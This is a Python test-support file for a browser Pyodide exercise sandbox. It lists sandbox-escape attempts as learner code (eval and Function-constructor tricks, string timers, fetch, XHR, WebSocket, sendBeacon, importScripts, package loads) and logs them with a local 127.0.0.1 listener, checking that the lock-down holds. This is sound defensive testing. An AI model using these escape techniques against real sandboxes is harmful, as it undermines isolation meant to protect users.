"""The exercise sandbox's attacks: learner code that tries to reach another site or to make
JavaScript from a string, each typed into the exercise panel as a Run of its own (or all in
one Run: Listener.every_attack_then_reachable), and a
listener on another port of 127.0.0.1 that records every request reaching it (preflights,
font loads and WebSocket upgrades too). tests/web/test_exercise.py runs the table in
Chromium, tests/engines/test_engines.py in Firefox ESR, WebKitGTK and WPE WebKit, both on a
server that sends no headers of its own (no _headers, so no Content-Security-Policy for the
worker: the lock-down alone must hold).

The page's Worker.prototype.terminate is slowed (KEEP_WORKERS_ALIVE) while they run, so
that what an attack starts asynchronously (a promise, a timer, a font load) has the time to
reach the listener before its Run's worker is terminated.
"""

from __future__ import annotations

import http.server
import threading

#: name -> learner code; {url} is the listener's URL (ends with "/"), {host} its host:port.
ATTACKS = {
    "FontFace.load": "import js\njs.FontFace.new('x', 'url({url}font.woff)').load()\n",
    "self.fonts.add": "import js\nface = js.FontFace.new('y', 'url({url}fonts.woff)')\njs.self.fonts.add(face)\nface.load()\n",
    "eval": "import js\njs.eval(\"import('{url}eval.js')\")\n",
    "Function": "import js\njs.Function.new(\"return import('{url}function.js')\")()\n",
    "Function via a prototype": (
        "import js\n"
        "js.Object.getPrototypeOf(js.setTimeout).constructor.new(\"return import('{url}prototype.js')\")()\n"),
    "AsyncFunction constructor": (
        "import js, pyodide_js\n"
        "maker = js.Object.getPrototypeOf(pyodide_js.loadPackage).constructor\n"
        "maker.new(\"await import('{url}async.js')\")()\n"),
    "setTimeout with a string": "import js\njs.setTimeout(\"import('{url}timeout.js')\", 0)\n",
    "setInterval with a string": "import js\njs.setInterval(\"import('{url}interval.js')\", 10)\n",
    "run_js": "import pyodide.code\npyodide.code.run_js(\"import('{url}run_js.js')\")\n",
    "fetch": "import js\njs.fetch('{url}fetch')\n",
    "pyfetch": "import asyncio, pyodide.http\nasyncio.ensure_future(pyodide.http.pyfetch('{url}pyfetch'))\n",
    "open_url": "import pyodide.http\npyodide.http.open_url('{url}open_url')\n",
    "XMLHttpRequest": "import js\nrequest = js.XMLHttpRequest.new()\nrequest.open('GET', '{url}xhr')\nrequest.send()\n",
    "WebSocket": "import js\njs.WebSocket.new('ws://{host}/websocket')\n",
    "EventSource": "import js\njs.EventSource.new('{url}events')\n",
    "importScripts": "import js\njs.importScripts('{url}classic.js')\n",
    "Worker": "import js\njs.Worker.new('{url}worker.js')\n",
    "loadPackage": "import pyodide_js\npyodide_js.loadPackage('{url}package-1.0-py3-none-any.whl')\n",
    "micropip": "import asyncio, micropip\nasyncio.ensure_future(micropip.install('{url}wheel-1.0-py3-none-any.whl'))\n",
    "instantiateStreaming": "import js\njs.WebAssembly.instantiateStreaming(js.fetch('{url}module.wasm'))\n",
    "navigator": "import js\njs.navigator.sendBeacon('{url}beacon')\n",
}

#: What learner code may find on the worker's global object and its prototypes: the
#: language's own objects and what Pyodide needs as it runs (exercise-worker.js's KEPT). No
#: request, storage, font or worker API is among them.
ALLOWED = {
    "globalThis", "Infinity", "NaN", "undefined", "Object", "Function", "Array", "Number", "parseFloat", "parseInt",
    "Boolean", "String", "Symbol", "Date", "Promise", "RegExp", "Error", "AggregateError", "EvalError", "RangeError",
    "ReferenceError", "SyntaxError", "TypeError", "URIError", "JSON", "Math", "Intl", "ArrayBuffer", "Atomics",
    "Uint8Array", "Int8Array", "Uint16Array", "Int16Array", "Uint32Array", "Int32Array", "Float16Array",
    "Float32Array", "Float64Array", "Uint8ClampedArray", "BigUint64Array", "BigInt64Array", "DataView", "Map",
    "BigInt", "Set", "WeakMap", "WeakSet", "Proxy", "Reflect", "FinalizationRegistry", "WeakRef", "Iterator",
    "decodeURI", "decodeURIComponent", "encodeURI", "encodeURIComponent", "escape", "unescape", "isFinite", "isNaN",
    "SharedArrayBuffer", "WebAssembly", "console", "self", "performance", "crypto", "TextDecoder", "TextEncoder",
    "DOMException", "setTimeout", "clearTimeout", "setInterval", "clearInterval", "queueMicrotask",
    # Chromium's fixed number constants of the old file system API: they reach nothing.
    "TEMPORARY", "PERSISTENT",
}


#: Learner code that lists every name on the worker's global object and its prototypes
#: that ALLOWED does not hold; its Run's sentence ends "beyond the allowed: <names>.".
REACHABLE = (
    "import js\n"
    "names, level = set(), js.self\n"
    "while level is not None and level != js.Object.prototype:\n"
    "    names |= set(js.Object.getOwnPropertyNames(level))\n"
    "    level = js.Object.getPrototypeOf(level)\n"
    f"extra = sorted(names - set({sorted(ALLOWED)!r}))\n"
    "raise RuntimeError('beyond the allowed: ' + (' '.join(extra) or 'nothing'))\n"
)


#: Slows the page's Worker.prototype.terminate by 1.5 s (run in the page before the attacks).
KEEP_WORKERS_ALIVE = """() => {
    const terminate = Worker.prototype.terminate;
    Worker.prototype.terminate = function () {
        const worker = this;
        setTimeout(() => terminate.call(worker), 1500);
    };
}"""


class Listener:
    """An HTTP server on a free port of 127.0.0.1 that logs every request (method and path)
    and answers each with an empty 200 that any origin may read."""

    def __init__(self):
        self.requests = []
        requests = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def answer(self):
                requests.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Headers", "*")
                self.send_header("Content-Type", "text/javascript")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_OPTIONS = do_HEAD = answer

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        self.url = f"http://{self.host}/"

    def code(self, attack):
        return ATTACKS[attack].format(url=self.url, host=self.host)

    def every_attack_then_reachable(self):
        """One Run's code that makes every attack in turn, each in a function and a try of
        its own (so one that raises does not hide the next), then raises REACHABLE's
        sentence. The listener's log still names the attack (each asks for its own path).
        The engines suite uses it: one Python start per engine instead of one per attack."""
        parts = []
        for number, attack in enumerate(ATTACKS):
            body = "".join(f"    {line}\n" for line in self.code(attack).splitlines())
            parts.append(f"def _attack_{number}():  # {attack}\n{body}"
                         f"try:\n    _attack_{number}()\nexcept BaseException:\n    pass\n")
        return "".join(parts) + REACHABLE

    def stop(self):
        self.server.shutdown()
        self.server.server_close()
